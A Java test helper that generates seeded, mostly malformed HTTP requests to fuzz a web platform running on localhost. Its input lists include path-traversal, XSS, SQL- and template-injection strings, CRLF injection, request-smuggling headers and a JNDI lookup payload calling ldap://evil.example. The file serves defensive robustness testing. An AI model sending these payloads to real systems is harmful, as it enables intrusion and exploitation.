package org.htmdirectory.platform.site;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Makes up requests of which most are wrong in some way: the same ones for the same seed and addresses. */
final class MalformedRequests {

    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String PARTS = "multipart/form-data; boundary=x";

    private static final List<String> METHODS = List.of(
            "GET",
            "GET",
            "GET",
            "GET",
            "POST",
            "POST",
            "POST",
            "HEAD",
            "PUT",
            "PATCH",
            "DELETE",
            "OPTIONS",
            "TRACE",
            "CONNECT",
            "PROPFIND",
            "get",
            "G(T",
            "",
            "GET GET",
            "M".repeat(9_000));
    private static final List<String> VERSIONS = List.of(
            "HTTP/1.1",
            "HTTP/1.1",
            "HTTP/1.1",
            "HTTP/1.1",
            "HTTP/1.1",
            "HTTP/1.0",
            "HTTP/2.0",
            "HTTP/9.9",
            "HTTP/1.",
            "http/1.1",
            "HTTP/1.1 ",
            "JUNK",
            "");
    private static final List<String> TEXTS = List.of(
            "BMET",
            "",
            "%00",
            "\0",
            "%zz",
            "%",
            "%ff%fe",
            "%c0%af",
            "../../etc/passwd",
            "..%2f..%2f",
            "%252e%252e/",
            "\\\\host\\share",
            "<script>alert(1)</script>",
            "${7*7}",
            "#{7*7}",
            "T(java.lang.Runtime)",
            "' or '1'='1",
            "\"",
            ";jsessionid=1",
            ";a=b;c",
            "{",
            "[]",
            "|",
            "^",
            "`",
            "\u00e9",
            "%F0%9F%98%80",
            "%ED%A0%80",
            "\t",
            "%0d%0aX-Evil:%201",
            "-1",
            "0",
            "999999999999999999999",
            "1e309",
            "NaN",
            "true",
            "null",
            "AL",
            "15-1252",
            "a".repeat(3_000),
            "%E2%80%AE".repeat(200),
            "//evil.example/",
            "http://evil.example/",
            "a,b,c".repeat(500));
    private static final List<String> TYPES = List.of(
            FORM,
            FORM,
            FORM,
            "application/json",
            "application/json",
            PARTS,
            PARTS,
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=\"",
            "multipart/mixed; boundary=x",
            "application/json; charset=utf-16",
            "application/json; charset=none-such",
            FORM + "; charset=utf-32",
            FORM + "; charset=ibm500",
            "application/xml",
            "text/plain;q=",
            "*/*",
            "/",
            ";",
            "a b;;",
            "application/json;",
            "\u0001");
    private static final List<String> BODIES = List.of(
            "",
            "q=BMET",
            "titles=BMET&titles=CE",
            "titles=%zz",
            "title=%00&title",
            "&&&=&=",
            "{\"title\":\"BMET\"}",
            "{\"title\":",
            "{\"title\":null}",
            "{\"title\":[1,{}]}",
            "{\"jobs\":[{\"title\":\"BMET\"},7,null]}",
            "{\"jobs\":{}}",
            "[]",
            "[".repeat(20_000),
            "{\"a\":".repeat(5_000),
            "\"\\ud800\"",
            "{\"title\":\"\\ud800\\u0000\"}",
            "1e999999999",
            "\0\0\0",
            "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\nTitle\r\nBMET\r\n--x--\r\n",
            "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\"\r\n\r\n\r\n--x--\r\n",
            "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\0../a\"\r\n\r\nTitle\r\n--x--\r\n",
            "--x\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nBMET\r\n--x--\r\n",
            "--x\r\nContent-Disposition: form-data\r\n\r\nBMET",
            "--x\r\nnonsense",
            "--x--",
            "--x\r\n" + "A: b\r\n".repeat(3_000));
    private static final List<String> HEADERS = List.of(
            "Accept: application/json",
            "Accept: */*;q=x",
            "Accept: a b c",
            "Accept: text/html;level",
            "Accept-Encoding: br;q=2, gzip;q=-1",
            "Accept-Language: \u00ff\u00fe",
            "Accept-Charset: none-such",
            "Cookie: a=b; =;;\"",
            "Cookie: JSESSIONID=" + "x".repeat(3_000),
            "Range: bytes=9-1",
            "Range: bytes=0-0,5-6,-1",
            "Range: bytes=" + "0-1,".repeat(900),
            "If-None-Match: \"",
            "If-None-Match: *",
            "If-Match: W/\"x\"",
            "If-Modified-Since: yesterday",
            "If-Range: \"x\"",
            "Origin: null",
            "Origin: http://evil.example",
            "Origin: :::",
            "Host: evil.example",
            "Host: [::1",
            "Host: a b",
            "Host:",
            "X-Forwarded-For: 1.2.3.4, \0",
            "X-Forwarded-Proto: gopher",
            "X-Forwarded-Host: evil.example:99999",
            "X-Forwarded-Port: many",
            "Forwarded: for=\"[::\";proto=;",
            "X-HTTP-Method-Override: DELETE",
            "Transfer-Encoding: chunked",
            "Transfer-Encoding: wonder",
            "Transfer-Encoding: gzip, chunked",
            "Content-Length: -4",
            "Content-Length: many",
            "Content-Length: 5",
            "Content-Length: 99999999999999999999",
            "Content-Encoding: gzip",
            "Expect: 100-continue",
            "Expect: wonder",
            "Upgrade: h2c",
            "Connection: Upgrade, HTTP2-Settings",
            "TE: trailers",
            "No colon",
            ": no name",
            " folded: x",
            "A\0B: c",
            "B: a\0b",
            "Referer: http://[",
            "User-Agent: ${jndi:ldap://evil.example/a}",
            "Sec-Fetch-Site: cross-site",
            "Access-Control-Request-Method: WONDER",
            "X-Long: " + "x".repeat(20_000),
            "X-Longest: " + "x".repeat(200_000));

    private static final Pattern VARIABLE = Pattern.compile("\\{[^}]*\\}");

    private final Random random;
    private final List<String> addresses;
    private final List<String> parameters;

    /**
     * @param addresses paths and patterns of paths, such as {@code /roles/{slug}}
     * @param parameters the names of what pages are asked for
     */
    MalformedRequests(long seed, List<String> addresses, List<String> parameters) {
        this.random = new Random(seed);
        this.addresses = addresses;
        this.parameters = parameters;
    }

    /** The next one. */
    byte[] next() {
        String method = one(METHODS);
        boolean body = method.equals("POST") || random.nextInt(10) == 0;
        StringBuilder head = new StringBuilder(method)
                .append(' ')
                .append(address())
                .append(' ')
                .append(one(VERSIONS))
                .append("\r\n");
        if (random.nextInt(20) > 0) {
            head.append("Host: localhost\r\n");
        }
        for (int more = random.nextInt(3); more > 0; more--) {
            head.append(one(HEADERS)).append("\r\n");
        }
        String sent = body ? one(BODIES) : "";
        if (body) {
            head.append("Content-Type: ").append(one(TYPES)).append("\r\n");
            head.append("Content-Length: ").append(length(sent)).append("\r\n");
        }
        byte[] bytes = (head + "Connection: close\r\n\r\n" + sent).getBytes(StandardCharsets.UTF_8);
        return random.nextInt(4) == 0 ? damaged(bytes) : bytes;
    }

    private String address() {
        StringBuilder address = new StringBuilder(
                VARIABLE.matcher(one(addresses)).replaceAll(variable -> Matcher.quoteReplacement(one(TEXTS))));
        if (random.nextInt(12) == 0) {
            address.insert(random.nextInt(address.length() + 1), one(TEXTS));
        }
        List<String> asked = new ArrayList<>();
        for (int more = random.nextInt(4); more > 0; more--) {
            String name = one(parameters);
            asked.add(name + "=" + one(TEXTS));
            if (random.nextInt(5) == 0) {
                asked.add(random.nextBoolean() ? name + "=" + one(TEXTS) : name);
            }
        }
        return asked.isEmpty() ? address.toString() : address + "?" + String.join("&", asked);
    }

    /** One that is sent in full, but for some: those are cut off, or say more than there is. */
    private long length(String sent) {
        int bytes = sent.getBytes(StandardCharsets.UTF_8).length;
        return switch (random.nextInt(12)) {
            case 0 -> bytes + 1L + random.nextInt(100);
            case 1 -> bytes / 2;
            default -> bytes;
        };
    }

    private byte[] damaged(byte[] bytes) {
        int at = random.nextInt(bytes.length);
        return switch (random.nextInt(4)) {
            case 0 -> Arrays.copyOf(bytes, at);
            case 1 -> {
                bytes[at] = (byte) random.nextInt(256);
                yield bytes;
            }
            case 2 -> with(bytes, at, new byte[random.nextInt(4)]);
            default -> with(bytes, at, Arrays.copyOfRange(bytes, at, Math.min(bytes.length, at + random.nextInt(60))));
        };
    }

    private static byte[] with(byte[] bytes, int at, byte[] more) {
        ByteArrayOutputStream longer = new ByteArrayOutputStream();
        longer.write(bytes, 0, at);
        longer.writeBytes(more);
        longer.write(bytes, at, bytes.length - at);
        return longer.toByteArray();
    }

    private String one(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
